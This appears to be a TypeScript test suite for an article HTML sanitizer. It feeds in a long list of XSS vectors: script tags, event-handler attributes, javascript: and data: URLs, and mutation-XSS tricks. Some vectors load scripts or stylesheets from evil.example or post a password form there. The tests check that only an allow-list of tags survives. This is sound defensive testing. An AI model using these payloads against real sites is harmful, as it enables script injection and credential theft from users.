import { articles } from '../../../contract/planet/articles'
import { cleaned } from '../../../server/domains/planet/articles/html'
import { type World, world } from '../../world'
import { publish } from './articles-world'

let w: World
beforeAll(async () => {
  w = await world()
})
afterAll(() => w.close())

const read = async (articleId: number) => (await w.person('林')).call(articles.detail, { articleId })

/** The allowed tags, written out. Any other bracket is left over. */
const known =
  /<\/?(?:h[23]|p|strong|em|ul|ol|li|blockquote|a)>|<br \/>|<br>|<a href="\/[\w/?=-]*">|<img(?: alt="[^"<>]*"| src="[^"<>]*"| (?:width|height)="[1-9]\d{0,3}")*(?: \/)?>/g
const leftOver = (html: string) => /[<>]/.test(html.replace(known, ''))

const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="https://evil.example/pixel.png">',
  '<img """><script>alert("x")</script>">',
  '<img src=`javascript:alert(1)`>',
  '<img/src="x"/onerror=alert(1)>',
  '<svg onload=alert(1)><p>x</p></svg>',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s></svg>',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="//evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="//evil.example">x</a>',
  '<a href="/\\evil.example">x</a>',
  '<a href="https://evil.example/">x</a>',
  '<a href="/user/edit" onclick="alert(1)">x</a>',
  '<a href="/user/edit" target="_blank" style="position:fixed">x</a>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p onmouseover="alert(1)">x</p>',
  '<p/onclick=alert(1)>x',
  '<style>@import "//evil.example/x.css";</style>',
  '<link rel=stylesheet href="//evil.example/x.css">',
  '<base href="//evil.example/">',
  '<meta http-equiv="refresh" content="0;url=//evil.example">',
  '<form action="//evil.example"><input name=password><button>x</button></form>',
  '<body onload=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<textarea><script>alert(1)</script></textarea>',
  '<xmp><script>alert(1)</script></xmp>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '<p title="<img src=x onerror=alert(1)>">x</p>',
  '<img alt="&quot;><script>alert(1)</script>" src="aa/000000000000000000000000000000.png">',
  '<<script>alert(1)//<</script>',
  '<p',
  '"><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<img width="1\" onerror=alert(1)" height="100%" src="aa/000000000000000000000000000000.png">',
  '<mglyph><style><img src=x onerror=alert(1)></style></mglyph>',
]

// security C1, B.article.02, security C5
test.each(vectors)('makes %s harmless: only the allow-list remains on write and on read', async (vector) => {
  const once = cleaned(`<p>前</p>${vector}`)
  expect(leftOver(once)).toBe(false)
  expect(once).not.toMatch(/<[^>]*(?:\son\w+|style|javascript:|vbscript:|data:|evil)/i)
  expect(cleaned(once)).toBe(once)
})

// security C1, B.article.02
test('cleans a staff article before it stores it, and tells staff', async () => {
  const { id, line } = await publish(w, '标题', '<h2 onclick="x()">好</h2><script>x()</script><p>话</p>')
  expect(line).toContain('不允许的内容已去掉')
  const { content } = await w.db.selectFrom('articles').where('id', '=', id).select('content').executeTakeFirstOrThrow()
  expect(content).toBe('<h2>好</h2><p>话</p>')
  expect((await publish(w, '标题', '<p>话</p>')).line).not.toContain('去掉')
})

// security C1, B.article.02
test('cleans stored HTML again when it is read', async () => {
  const { id } = await publish(w, '标题', '<p>话</p>')
  await w.db
    .updateTable('articles')
    .set({ content: `<p>话</p>${vectors.join('')}` })
    .where('id', '=', id)
    .execute()
  const { articleContent } = await read(id)
  expect(leftOver(articleContent)).toBe(false)
  expect(articleContent).not.toMatch(/alert\(1\)<\/script|onerror="/)
})

// security C5
test('keeps links inside the product, and pictures as our own files with an address of their own', async () => {
  const key = `aa/${'0'.repeat(30)}.png`
  const html = `<p><a href="/user/edit">改</a><a href="/user/info?uid=1234567890">看</a></p><img src="${key}" alt="图">`
  expect(cleaned(html)).toBe(html)
  const { id } = await publish(w, '标题', html)
  const { articleContent } = await read(id)
  expect(articleContent).toContain('<a href="/user/edit">')
  expect(articleContent).toMatch(new RegExp(`<img src="[^"]*/files/${key}\\?e=\\d+&amp;s=[0-9a-f]{32}" alt="图">`))
})
